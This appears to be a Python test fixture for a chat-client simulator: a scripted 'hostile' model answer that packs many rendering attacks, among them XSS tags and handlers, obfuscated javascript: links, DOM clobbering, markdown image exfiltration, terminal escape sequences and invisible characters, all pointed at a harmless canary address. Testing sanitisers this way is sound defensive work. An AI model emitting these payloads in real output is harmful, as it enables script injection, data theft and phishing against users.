"""`demo/hostile`: an answer that attacks careless renderers.

Every remote address is the canary (`simulator.canary`, or the environment variable `SIMULATOR_CANARY`): a test sets
it to its server and asserts that it receives no request. The default is a name under `.invalid`, which cannot
exist.
"""

import os

from openrouter_nb.simulator.parsed_request import ParsedChatRequest
from openrouter_nb.simulator.responses.scripted_answer import ScriptedAnswer
from openrouter_nb.simulator.scripted_model import ScriptedModel
from openrouter_nb.simulator.scripts.text_deltas import say

NOWHERE = "http://canary.invalid"

TEXT = """# A hostile answer (simulated)

<script>window.__pwned = "script"; fetch("CANARY/script")</script>
<img src="CANARY/img" onerror="window.__pwned='img'">
<img src=x onerror="window.__pwned='onerror'">
<iframe srcdoc="<script>parent.__pwned='srcdoc'</script>" src="CANARY/iframe"></iframe>
<svg onload="window.__pwned='svg'"><image href="CANARY/svg"/><script>window.__pwned='svg-script'</script></svg>
<style>@import url("CANARY/style"); body { background: url("CANARY/css") }</style>
<link rel="stylesheet" href="CANARY/link"><meta http-equiv="refresh" content="0;url=CANARY/meta">
<object data="CANARY/object"></object><embed src="CANARY/embed">
<video poster="CANARY/poster" src="CANARY/video" autoplay></video><audio src="CANARY/audio" autoplay></audio>
<form action="CANARY/form"><input name="token"><button formaction="javascript:window.__pwned='form'">Go</button></form>
<button data-commandlinker-command="terminal:create-new">Click me</button>
<div style="position:fixed;inset:0;z-index:99999;background:url('CANARY/overlay')">Your session expired. Log in.</div>
<a id="__proto__" name="body" href="CANARY/clobber">clobber</a>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>

![inline image](CANARY/markdown-image?secret=1)
![reference image][exfiltrate]
[![linked image](CANARY/linked-image)](CANARY/linked)
[reference link][click]

[exfiltrate]: CANARY/reference-image?secret=1
[click]: javascript:window.__pwned='reference'

[javascript link](javascript:window.__pwned='link')
[entity link](&#106;avascript:window.__pwned='entity')
[mixed case](JaVaScRiPt:window.__pwned='case')
[tab in scheme](java\tscript:window.__pwned='tab')
[vbscript](vbscript:msgbox)
[data link](data:text/html,<script>window.__pwned='data'</script>)
[data base64](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[file link](file:///etc/passwd)
[https://openrouter.ai](CANARY/spoofed-text)
<javascript:window.__pwned='autolink'>

Inline \\(\\href{javascript:window.__pwned='math'}{x}\\) and \\[\\includegraphics{CANARY/math}\\]

Terminal: \x1b[2J\x1b[31mred\x1b[0m \x1b]8;;CANARY/osc\x07click\x1b]8;;\x07 \x1b]52;c;cHduZWQ=\x07 \x9b31m \x00 \x08\x7f

Bidirectional: \u202eevitcepsrep\u202c \u2066isolated\u2069, zero\u200bwidth\ufeff, line\u2028separator\u2029 next\u0085line

```html
<script>window.__pwned = "fence"</script>
```

```"><img src=x onerror="window.__pwned='language'">
an attack through the language of a code block
```

| a | <img src=x onerror="window.__pwned='cell'"> |
|---|---|
| `<script>` | <script>window.__pwned='table'</script> |

An end without a close: <img src="CANARY/unclosed" onerror="window.__pwned='unclosed'"
"""


def hostile(request: ParsedChatRequest) -> ScriptedAnswer:
    """Answer with the attacks, addressed to the canary."""
    canary = request.overrides.canary or os.environ.get("SIMULATOR_CANARY") or NOWHERE
    return ScriptedAnswer(deltas=say(TEXT.replace("CANARY", canary.rstrip("/")), request))


HOSTILE = ScriptedModel(
    slug="demo/hostile",
    summary="Attacks through Markdown, HTML, links, terminal escapes and invisible characters.",
    respond=hostile,
)
